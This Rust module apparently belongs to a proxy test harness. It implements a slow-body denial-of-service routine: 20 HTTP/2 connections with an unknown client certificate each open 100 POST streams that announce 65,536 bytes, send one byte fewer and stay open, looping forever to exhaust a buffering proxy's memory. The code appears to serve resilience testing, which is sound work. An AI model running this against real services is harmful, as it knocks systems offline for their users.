//! Bodies without their last byte, so that a proxy that buffers them waits with all of them in memory.

use bytes::Bytes;
use futures_util::{StreamExt, future::join_all, stream};
use http::Request;
use http_body::Frame;
use http_body_util::{BodyExt, StreamBody};
use testkit::Credentials;

use super::{Body, PAUSE, Scene, Tally, http2, outcome};
use crate::{
    harness::contender::{DOMAIN, PATH},
    strangers::chains::unknown,
};

const CONNECTIONS: usize = 20;
const STREAMS: usize = 100;
const ANNOUNCED: usize = 65_536;

pub(super) async fn attack(scene: &Scene, tally: &Tally) {
    let chain = unknown("stranger");
    join_all((0..CONNECTIONS).map(|_| connection(scene, &chain, tally))).await;
}

async fn connection(scene: &Scene, chain: &Credentials, tally: &Tally) {
    loop {
        match http2(&scene.client(Some(chain), true)).await {
            Ok(sender) => {
                let streams = (0..STREAMS).map(|_| {
                    let mut sender = sender.clone();
                    async move {
                        tally.count("sent");
                        tally.answered(&outcome(sender.send_request(endless()).await).await);
                    }
                });
                join_all(streams).await;
            }
            Err(_) => tally.count("no handshake"),
        }
        tokio::time::sleep(PAUSE).await;
    }
}

/// A body that ends one byte early and stays open.
fn endless() -> Request<Body> {
    let bytes = Bytes::from(vec![b'a'; ANNOUNCED - 1]);
    let frames = stream::iter([Ok(Frame::data(bytes))]).chain(stream::pending());
    Request::post(format!("https://{DOMAIN}{PATH}"))
        .header("content-type", "application/x-www-form-urlencoded")
        .header("content-length", ANNOUNCED)
        .body(BodyExt::boxed(StreamBody::new(frames)))
        .unwrap()
}
